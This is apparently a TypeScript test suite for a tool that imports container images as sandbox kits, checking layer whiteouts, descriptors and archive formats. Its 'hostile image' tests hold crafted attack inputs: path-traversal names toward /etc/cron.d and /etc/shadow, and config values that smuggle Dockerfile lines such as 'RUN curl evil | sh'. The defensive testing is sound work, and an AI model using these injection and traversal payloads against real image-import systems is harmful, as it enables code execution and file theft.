import { createHash } from "node:crypto";
import { createReadStream } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, rename, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { buffer, text as textOf } from "node:stream/consumers";
import { zstdCompressSync } from "node:zlib";
import { AppError } from "@sbx/contracts";
import fc from "fast-check";
import { extract, pack } from "tar-stream";
import { afterEach, beforeEach, describe, it } from "vitest";
import { importImageKit, isImage } from "../../src/image/import-image-kit.ts";
import { createKitStore } from "../../src/kit-store.ts";
import { DESCRIPTOR, digestOf, tarOf, writeLayout, type AnImage, type LayerFile } from "./an-image.ts";

let root = "";
let image = "";
let kit = "";
beforeEach(async () => {
  root = await mkdtemp(path.join(tmpdir(), "sbx-image-kit-"));
  [image, kit] = [path.join(root, "image"), path.join(root, "theirs")];
  await Promise.all([mkdir(image), mkdir(kit)]);
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

/** What the Kit's one tar holds, in order. */
async function seen(): Promise<Readonly<Record<string, string>>> {
  const reader = createReadStream(path.join(kit, "kit.root.tar")).pipe(extract());
  const found: [string, string][] = [];
  for await (const entry of reader) {
    const { name, type, mode, uid, linkname } = entry.header;
    found.push([name, `${type} ${mode.toString(8)} ${uid}${type === "file" ? ` ${await textOf(entry)}` : type === "directory" ? "" : ` ${linkname}`}`]);
    entry.resume();
  }
  return Object.fromEntries(found);
}

async function imported(what: AnImage = {}): Promise<void> {
  await writeLayout(image, what);
  await importImageKit(image, kit);
}

async function refusal(make: () => Promise<unknown>): Promise<string> {
  const problem: unknown = await make().then(
    () => undefined,
    (error: unknown) => error,
  );
  if (!AppError.is(problem)) throw new Error(`not refused: ${String(problem)}`, { cause: problem });
  return `${problem.code} ${problem.message}`;
}

describe("a Kit that comes as an image", () => {
  it("becomes a directory that can be used like any other", async ({ expect }) => {
    await imported({ config: { User: "agent", WorkingDir: "/home/agent/work", Env: ["PATH=/usr/bin:/bin", 'ODD=a "b" $PATH \\'], Entrypoint: ["theirs", "--x <<EOF"], Cmd: ["y"] } });
    const { profile } = await createKitStore({ directory: root }).load({ agent: kit });
    expect(profile.launch("headless", [])).toEqual(["theirs", "--x <<EOF", "y"]);
    expect((await readFile(path.join(kit, "kit.dockerfile"), "utf8")).split("\n")).toEqual([
      "FROM scratch",
      "ADD kit.root.tar /",
      'ENV PATH="/usr/bin:/bin"',
      String.raw`ENV ODD="a \"b\" \$PATH \\"`,
      'WORKDIR "/home/agent/work"',
      "USER agent",
      String.raw`ENTRYPOINT ["theirs","--x \u003c\u003cEOF"]`,
      'CMD ["y"]',
      "",
    ]);
  });

  it.for<[string, AnImage]>([
    ["an index", { annotateIndex: true }],
    ["a label, where an engine kept no annotations", { descriptor: null, config: { Labels: { "vnd.docker.sandbox.kit.descriptor": DESCRIPTOR } } }],
    ["a manifest whose layers are not packed", { pack: (tar) => tar }],
    ["a manifest whose layers are packed by zstd", { pack: zstdCompressSync }],
  ])("may have its descriptor in %s", async ([, what], { expect }) => {
    await imported(what);
    expect(JSON.parse(await readFile(path.join(kit, "kit.yaml"), "utf8"))).toEqual(JSON.parse(DESCRIPTOR));
    expect(await seen()).toEqual({ "etc/a": "file 644 0 a" });
  });

  it("may be a mixin, whose files and variables are laid over an agent and whose program and user are not", async ({ expect }) => {
    const descriptor = JSON.stringify({
      schemaVersion: "3",
      kind: "mixin",
      version: "1.2",
      provides: ["tool@1"],
      capabilities: [{ type: "com.docker.sandbox/network-policy@1", config: { runtime: { allow: ["tool.example:443"] } } }],
    });
    await imported({ descriptor, config: { User: "root", Env: ["TOOL=/opt/tool"], Entrypoint: ["/bin/false"] } });
    const { profile } = await createKitStore({ directory: root }).load({ agent: "shell", kits: [kit] });
    expect(profile.launch("headless", [])).not.toContain("/bin/false");
    expect(profile.kits).toMatchObject([
      { name: "shell", kind: "workload" },
      { name: "theirs", kind: "mixin", version: "1.2" },
    ]);
    expect(profile.allow).toContain("tool.example:443");
    const [layer, ...others] = profile.layers;
    expect([layer?.directory, layer?.env, others]).toEqual([kit, { TOOL: "/opt/tool" }, []]);
    expect(layer?.dockerfile.split("\n").slice(0, 2)).toEqual(["FROM scratch", "ADD kit.root.tar /"]);
    await expect(createKitStore({ directory: root }).load({ agent: kit })).rejects.toSatisfy((error) => AppError.is(error));
  });

  it("is taken from an archive of a layout, and from one that an engine saved", async ({ expect }) => {
    await writeLayout(image);
    const files = (await readdir(image, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).map(({ parentPath, name }) => path.join(parentPath, name));
    const archive = path.join(root, "layout.tar");
    await writeFile(archive, await archiveOf(files));
    await importImageKit(archive, kit);
    expect(await seen()).toEqual({ "etc/a": "file 644 0 a" });
    await rm(kit, { recursive: true });
    await mkdir(kit);

    const layer = await tarOf([{ name: "etc/b", text: "b" }]);
    const config = JSON.stringify({
      os: "linux",
      architecture: process.arch === "x64" ? "amd64" : process.arch,
      config: { Labels: { "vnd.docker.sandbox.kit.descriptor": DESCRIPTOR }, Entrypoint: ["x"] },
      rootfs: { type: "layers", diff_ids: [digestOf(layer)] },
    });
    const [id, configId] = ["a".repeat(64), createHash("sha256").update(config).digest("hex")];
    const saved = path.join(root, "saved.tar");
    await writeFile(
      saved,
      await tarOfBuffers({
        [`${configId}.json`]: config,
        [`${id}/layer.tar`]: layer,
        [`${id}/VERSION`]: "1.0",
        "manifest.json": JSON.stringify([{ Config: `${configId}.json`, RepoTags: ["x"], Layers: [`${id}/layer.tar`] }]),
      }),
    );
    await importImageKit(saved, kit);
    expect(await seen()).toEqual({ "etc/b": "file 644 0 b" });
  });

  it("has its texts beside it, under names of the directory", async ({ expect }) => {
    const staged = "/usr/share/sandbox/kit/theirs/context.md";
    const descriptor = JSON.stringify({
      schemaVersion: "3",
      kind: "workload",
      capabilities: [{ type: "com.docker.sandbox/agent-context@1", config: { directory: "/home/agent/.t", filename: "T.md", contentFile: staged } }],
    });
    await imported({ descriptor, layers: [[{ name: staged.slice(1), text: "be kind" }]] });
    expect(await readFile(path.join(kit, "texts/context.md"), "utf8")).toBe("be kind");
    expect(await readFile(path.join(kit, "kit.yaml"), "utf8")).toContain('"contentFile": "texts/context.md"');
    expect(await seen()).toHaveProperty([staged.slice(1)]);
  });
});

async function archiveOf(files: readonly string[]): Promise<Buffer> {
  return await tarOfBuffers(Object.fromEntries(await Promise.all(files.map(async (file) => [path.relative(image, file), await readFile(file)] as const))));
}

async function tarOfBuffers(files: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const tar = pack();
  const whole = buffer(tar);
  for (const [name, bytes] of Object.entries(files)) tar.entry({ name }, bytes);
  tar.finalize();
  return await whole;
}

describe("layers on one another", () => {
  it("show what is on top, and not what was taken away", async ({ expect }) => {
    await imported({
      layers: [
        [
          { name: "a", text: "1" },
          { name: "b", text: "1" },
          { name: "d" },
          { name: "d/x", text: "1" },
          { name: "o" },
          { name: "o/old", text: "1" },
          { name: "t" },
          { name: "t/y", text: "1" },
          { name: "w", text: "1" },
        ],
        [
          { name: "a", text: "2", mode: 0o755, uid: 1000 },
          { name: ".wh.b", text: "" },
          { name: "o/new", text: "2" },
          { name: "o/.wh..wh..opq", text: "" },
          { name: "t", text: "2" },
          { name: "w", text: "2" },
          { name: ".wh.w", text: "" },
        ],
      ],
    });
    expect(await seen()).toEqual({ a: "file 755 1000 2", d: "directory 755 0", "d/x": "file 644 0 1", o: "directory 755 0", "o/new": "file 644 0 2", t: "file 644 0 2", w: "file 644 0 2" });
  });

  it("leave devices and their like out, and what they hide too", async ({ expect }) => {
    const devices: readonly LayerFile[] = [
      { name: "dev/sda", type: "block-device", devmajor: 8, devminor: 0 },
      { name: "dev/tty", type: "character-device", devmajor: 5, devminor: 0 },
      { name: "hidden", type: "fifo" },
    ];
    await imported({ layers: [[{ name: "dev" }, { name: "hidden", text: "1" }], devices] });
    expect(await seen()).toEqual({ dev: "directory 755 0" });
  });

  it("keep links, and give no rights by running a file", async ({ expect }) => {
    await imported({
      layers: [
        [
          { name: "su", text: "x", mode: 0o4755 },
          { name: "again", type: "link", linkname: "su" },
          { name: "out", type: "symlink", linkname: "../../../etc/shadow" },
        ],
      ],
    });
    expect(await seen()).toEqual({ su: "file 755 0 x", again: "link 755 0 su", out: "symlink 755 0 ../../../etc/shadow" });
  });

  it("show the same as a plain map of paths would, whatever files they hold", async ({ expect }) => {
    const name = fc.constantFrom("a", "b", "d/a", "d/b", "d/e/a");
    const layer = fc.uniqueArray(fc.tuple(name, fc.constantFrom("put", "take")), { selector: ([one]) => one, maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(fc.array(layer, { minLength: 1, maxLength: 4 }), async (layers) => {
        await Promise.all([image, kit].map((directory) => rm(directory, { recursive: true }).then(() => mkdir(directory))));
        const expected = new Map<string, string>();
        for (const [at, files] of layers.entries()) {
          for (const [path_, what] of files) if (what === "take") expected.delete(path_);
          for (const [path_, what] of files) if (what === "put") expected.set(path_, `file 644 0 ${at}`);
        }
        const entries = layers.map((files, at) =>
          files.map(([path_, what]): LayerFile => (what === "put" ? { name: path_, text: String(at) } : { name: path_.replace(/[^/]*$/, ".wh.$&"), text: "" })),
        );
        await imported({ layers: entries });
        expect(await seen()).toEqual(Object.fromEntries(expected));
      }),
      { numRuns: 40 },
    );
  });
});

describe("a hostile image", () => {
  it.for<[string, AnImage]>([
    ["has no descriptor", { descriptor: null }],
    ["has a descriptor that is no Kit", { descriptor: "{}" }],
    ["has a descriptor in another notation", { descriptor: 'schemaVersion: "3"\nkind: workload\n' }],
    ["has a descriptor with a key twice", { descriptor: '{"schemaVersion":"3","kind":"workload","kind":"mixin"}' }],
    ["leaves itself", { layers: [[{ name: "../../../etc/cron.d/x", text: "x" }]] }],
    ["leaves itself half-way", { layers: [[{ name: "a/../../x", text: "x" }]] }],
    ["links to a file outside", { layers: [[{ name: "x", type: "link", linkname: "../../etc/shadow" }]] }],
    ["links to a file that is not in it", { layers: [[{ name: "x", type: "link", linkname: "gone" }]] }],
    ["has a name with a newline", { layers: [[{ name: "a\nb", text: "x" }]] }],
    ["says more about a file than has to be read", { layers: [[{ name: "x", text: "x", pax: { comment: "c".repeat(100_000) } }]] }],
    ["writes a recipe by its variables", { config: { Env: ["A=x\nRUN curl evil | sh"] } }],
    ["writes a recipe by a variable's name", { config: { Env: ['A=" \nRUN x', "A b=c"] } }],
    ["writes a recipe by its user", { config: { User: "root\nRUN x" } }],
    ["writes a recipe by its directory", { config: { WorkingDir: "/x\nFROM evil" } }],
    ["is for another machine", { change: ({ image: config }) => (config["architecture"] = "s390x") }],
    ["is for another system", { change: ({ image: config }) => (config["os"] = "windows") }],
    ["has more layers than it tells of", { change: ({ image: config }) => (config["rootfs"] = { type: "layers", diff_ids: [digestOf("a"), digestOf("b")] }) }],
    ["says of a layer what it is not", { change: ({ image: config }) => (config["rootfs"] = { type: "layers", diff_ids: [digestOf("a")] }) }],
    ["names a blob that is a path", { change: ({ manifest }) => (manifest["layers"] = [{ digest: "sha256:../../../../etc/passwd", size: 1 }]) }],
    ["names a blob that is not there", { change: ({ manifest }) => (manifest["layers"] = [{ digest: digestOf("gone"), size: 1 }]) }],
    [
      "names a text that is not its own",
      { descriptor: DESCRIPTOR.replace("}", ',"capabilities":[{"type":"com.docker.sandbox/agent-context@1","config":{"directory":"/home/agent/.t","filename":"T.md","contentFile":"/etc/shadow"}}]}') },
    ],
    [
      "has two images",
      {
        change: ({ index, manifest }) =>
          void (index["manifests"] = [1, 2].map(() => ({ mediaType: "application/vnd.oci.image.manifest.v1+json", digest: digestOf(JSON.stringify(manifest)), size: 1 }))),
      },
    ],
    ["has a layer that is no tar", { pack: () => Buffer.from("nothing") }],
  ])("is refused where it %s, and nothing of it can be used", async ([, what], { expect }) => {
    await writeLayout(image, what);
    expect(await refusal(() => importImageKit(image, kit))).toMatch(/^KIT_INVALID /);
    expect(await readdir(kit)).not.toContain("kit.dockerfile");
  });

  it("is refused where a blob was changed, or is a link", async ({ expect }) => {
    await writeLayout(image);
    const blobs = path.join(image, "blobs/sha256");
    for (const name of await readdir(blobs)) {
      const [blob, aside] = [path.join(blobs, name), path.join(root, name)];
      const bytes = await readFile(blob);
      await writeFile(blob, Buffer.concat([bytes, Buffer.from(" ")]));
      expect(await refusal(() => importImageKit(image, kit))).toMatch(/^KIT_INVALID /);
      await rename(blob, aside);
      await writeFile(aside, bytes);
      await symlink(aside, blob);
      expect(await refusal(() => importImageKit(image, kit))).toMatch(/^KIT_INVALID .*is a link/);
      await rm(blob);
      await writeFile(blob, bytes);
      await rm(path.join(kit, "kit.root.tar"), { force: true });
    }
    await importImageKit(image, kit);
  });

  it.for<[string, readonly LayerFile[]]>([
    ["a link", [{ name: "index.json", type: "symlink", linkname: "/etc/passwd" }]],
    ["a device", [{ name: "blobs", type: "block-device" }]],
    [
      "a name twice",
      [
        { name: "oci-layout", text: "{}" },
        { name: "./oci-layout", text: "{}" },
      ],
    ],
    ["nothing", []],
    [
      "other files alone",
      [
        { name: "../../outside", text: "x" },
        { name: "/etc/cron.d/x", text: "x" },
      ],
    ],
  ])("is refused as an archive with %s, and nothing is written beside it", async ([, files], { expect }) => {
    const archive = path.join(root, "archive.tar");
    await writeFile(archive, await tarOf(files));
    expect(await refusal(() => importImageKit(archive, kit))).toMatch(/^KIT_INVALID /);
    expect((await readdir(root)).toSorted()).toEqual(["archive.tar", "image", "theirs"]);
    expect(await readdir(kit)).toEqual([]);
  });

  it("is refused where it is no image at all", async ({ expect }) => {
    const file = path.join(root, "noise");
    await writeFile(file, Buffer.alloc(4096, "noise"));
    expect(await refusal(() => importImageKit(file, kit))).toMatch(/^KIT_INVALID /);
    expect(await refusal(() => importImageKit(path.join(root, "gone"), kit))).toMatch(/^KIT_INVALID /);
    expect([await isImage(kit), await isImage(path.join(root, "gone")), await isImage(file)]).toEqual([false, false, true]);
  });
});
